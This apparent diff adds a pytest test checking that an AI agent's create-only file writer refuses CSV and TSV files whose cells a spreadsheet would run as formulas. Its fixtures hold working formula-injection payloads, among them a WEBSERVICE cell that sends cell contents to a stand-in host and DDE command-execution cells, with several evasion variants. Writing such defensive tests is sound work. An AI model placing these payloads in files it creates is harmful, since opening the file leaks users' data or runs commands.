@@ -1,0 +1,53 @@
+"""Create-only mode writes data, not formulas: a .csv or .tsv cell a spreadsheet runs.
+
+Probe (probemcp21b): create-only mode (a readonly investigation writing its findings, no
+write asked) created findings.csv whose cells were copied from rows anyone may have filled:
+``=WEBSERVICE("https://x.example/?"&A2)`` and ``=HYPERLINK(...)`` send the sheet's other
+cells away when the user opens the file in Excel or LibreOffice, ``=cmd|'/c calc'!A0`` is DDE.
+The same cell quoted, after blanks, led by ``+ - @``, split by the semicolon of a European
+locale or by the separator a ``sep=`` line declares, in UTF-16, and in a .tsv. Numbers, a
+lone dash and a cell marked as text (``'=1+1``) are still created."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from write_backends import KINDS, writer
+
+from rho_domain.errors import PermissionDenied
+from rho_domain.permissions import FileWriteMode
+
+FORMULAS = {
+    "findings.csv": b'name,total\n=WEBSERVICE("https://x.example/?"&A3),1\nbob,2\n',
+    "a.CSV": b'name,total\nbob,"=HYPERLINK(""https://x.example"")"\n',
+    "b.csv": b"name,total\nbob,  =cmd|'/c calc'!A0\n",
+    "c.csv": b"name;total\nbob;+1+cmd|'/c calc'!A0\n",
+    "d.csv": b"sep=|\nname|total\nbob|@SUM(1+1)\n",
+    "e.csv": b"name,total\nbob,-2+3\n",
+    "f.tsv": b"name\ttotal\nbob\t=1+1\n",
+    "g.csv": b"\xef\xbb\xbf=1+1\n",
+    "h.csv": "name\ttotal\nbob\t=1+1\n".encode("utf-16"),  # Excel's "Unicode text"
+}
+DATA = b"name,total,delta,note\nbob,12,-5,-\nann,+1.5e3,-12%,'=1+1\n"
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_a_created_sheet_holds_no_formula(tmp_path: Path, kind: str) -> None:
+    executor = writer(kind, tmp_path, FileWriteMode.CREATE_ONLY)
+    refused: dict[str, str] = {}
+    try:
+        for path, data in FORMULAS.items():
+            with pytest.raises(PermissionDenied) as caught:
+                await executor.write(path, data, overwrite=False)
+            refused[path] = str(caught.value)
+        await executor.write("report/totals.csv", DATA, overwrite=False)
+        assert await executor.read("report/totals.csv") == DATA
+        await executor.write("notes.md", b"=1+1\n", overwrite=False)  # no spreadsheet's
+    finally:
+        await executor.aclose()
+    for path, message in refused.items():
+        assert repr(path) in message
+        assert "runs as a formula when the file is opened" in message, message
+    assert "row 2, column 1" in refused["findings.csv"]
+    assert "row 2, column 2" in refused["c.csv"]
